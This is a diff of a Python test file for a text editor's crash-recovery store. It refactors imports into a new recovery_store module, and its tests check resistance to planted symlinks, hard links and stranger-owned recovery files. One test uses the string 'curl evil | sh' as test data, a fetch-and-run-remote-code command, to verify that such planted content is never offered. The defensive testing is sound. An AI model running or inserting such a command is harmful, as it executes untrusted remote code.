@@ -18,13 +18,15 @@ from pathlib import Path
 
 import pytest
 
-from editor.core import safefs
+from editor.core import recovery_store, safefs
 from editor.core.fileio import DEFAULT_FORMAT
+from editor.core.paths import data_dir, recovery_dir
+from editor.core.recovery_store import RecoveryStore
 from editor.core.safefs import UnsafeFolderError, ensure_private_folder, private_folder
 from editor.core.userwords import UserWords
 from editor.ui import recovery
-from editor.ui.recovery import AutoSaver, RecoveryStore, autosaver, offer_recovery, recovery_dir
-from editor.ui.training_ui import UserFeatures, data_dir
+from editor.ui.recovery import AutoSaver, autosaver, offer_recovery
+from editor.ui.user_features import UserFeatures
 from editor.ui.window import MainWindow
 
 FAST = {"idle_ms": 50, "max_delay_ms": 200}
@@ -49,7 +51,7 @@ def header(meta: dict[str, object], length: int, sha: str = "0" * 64) -> bytes:
     data = dict({"encoding": "utf-8", "bom": False, "newline": "\n", "cursor": 0, "disk": None,
                  "pid": 999_999_999, "owner": None, "time": time.time()}, **meta)
     data.update(length=length, sha256=sha)
-    return recovery.MAGIC + json.dumps(data).encode() + b"\n"
+    return recovery_store.MAGIC + json.dumps(data).encode() + b"\n"
 
 
 def stranger_file(store: RecoveryStore, text: str, path: Path | None) -> Path:
@@ -57,7 +59,7 @@ def stranger_file(store: RecoveryStore, text: str, path: Path | None) -> Path:
     import hashlib
 
     payload = text.encode()
-    file = store.folder / f"999999999-{os.urandom(6).hex()}{recovery.SUFFIX}"
+    file = store.folder / f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}"
     file.write_bytes(header({"path": str(path) if path else None}, len(payload),
                             hashlib.sha256(payload).hexdigest()) + payload)
     return file
@@ -90,8 +92,8 @@ def test_a_link_planted_at_the_next_temporary_name_is_never_written_through(
     (store.folder / planted).symlink_to(victim)
     # The attacker guessed the next temporary name: the writer must still not follow it.
     names = iter([planted])
-    real = recovery._temp_name
-    monkeypatch.setattr(recovery, "_temp_name", lambda path: next(names, None) or real(path))
+    real = recovery_store._temp_name
+    monkeypatch.setattr(recovery_store, "_temp_name", lambda path: next(names, None) or real(path))
     meta = {"path": None, "pid": os.getpid(), "time": time.time()}
     store.write(target, meta, ["rascunho"])
     assert victim.read_text(encoding="utf-8") == "alias ls='ls --color'\n"  # untouched
@@ -179,7 +181,7 @@ def test_files_planted_by_others_are_never_offered(
     elsewhere.mkdir()
     # A link to a recovery file outside, and a second name for a file (a hard link).
     outside = stranger_file(RecoveryStore(elsewhere), "curl evil | sh\n", victim)
-    (store.folder / f"999999998-aaaaaaaaaaaa{recovery.SUFFIX}").symlink_to(outside)
+    (store.folder / f"999999998-aaaaaaaaaaaa{recovery_store.SUFFIX}").symlink_to(outside)
     linked = stranger_file(store, "curl evil | sh\n", victim)
     os.link(linked, elsewhere / "second-name")
     planted = [linked]
@@ -245,7 +247,7 @@ def test_a_huge_recovery_file_is_listed_without_reading_its_text(
     AutoSaver(window, store, **FAST)
     store.folder.mkdir(parents=True, exist_ok=True)
     length = 300 << 20
-    file = store.folder / f"999999999-{os.urandom(6).hex()}{recovery.SUFFIX}"
+    file = store.folder / f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}"
     head = header({"path": None, "chars": length}, length)
     with open(file, "wb") as f:
         f.write(head)
@@ -269,11 +271,11 @@ def test_text_too_large_for_a_window_is_saved_to_a_file_piece_by_piece(
     make_window, store: RecoveryStore, prompts, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(recovery, "MAX_RECOVER_INTO_WINDOW", 1000)
-    monkeypatch.setattr(recovery, "EXPORT_PIECE", 700)
+    monkeypatch.setattr(recovery_store, "EXPORT_PIECE", 700)
     window = make_window()
     AutoSaver(window, store, **FAST)
     text = "linha com acentuação, 😀\n" * 200
-    crashed = store.new_path().with_name(f"999999999-{os.urandom(6).hex()}{recovery.SUFFIX}")
+    crashed = store.new_path().with_name(f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}")
     store.write(crashed, {"path": None, "pid": 999_999_999, "time": time.time(),
                           "encoding": "utf-8", "bom": False, "newline": "\n"}, [text])
     target = tmp_path / "recuperado.txt"
@@ -293,7 +295,7 @@ def test_a_garbled_large_file_is_caught_when_recovered(
     window = make_window()
     AutoSaver(window, store, **FAST)
     text = "texto precioso " * 20
-    crashed = store.new_path().with_name(f"999999999-{os.urandom(6).hex()}{recovery.SUFFIX}")
+    crashed = store.new_path().with_name(f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}")
     store.write(crashed, {"path": None, "pid": 999_999_999, "time": time.time(),
                           "encoding": "utf-8", "bom": False, "newline": "\n"}, [text])
     data = crashed.read_bytes()
@@ -311,7 +313,7 @@ def test_recovered_text_keeps_its_character_count_in_the_question(
 ) -> None:
     window = make_window()
     AutoSaver(window, store, **FAST)
-    crashed = store.new_path().with_name(f"999999999-{os.urandom(6).hex()}{recovery.SUFFIX}")
+    crashed = store.new_path().with_name(f"999999999-{os.urandom(6).hex()}{recovery_store.SUFFIX}")
     store.write(crashed, {"path": None, "pid": 999_999_999, "time": time.time(),
                           "encoding": DEFAULT_FORMAT.encoding, "bom": False, "newline": "\n"},
                 ["ação 😀"])
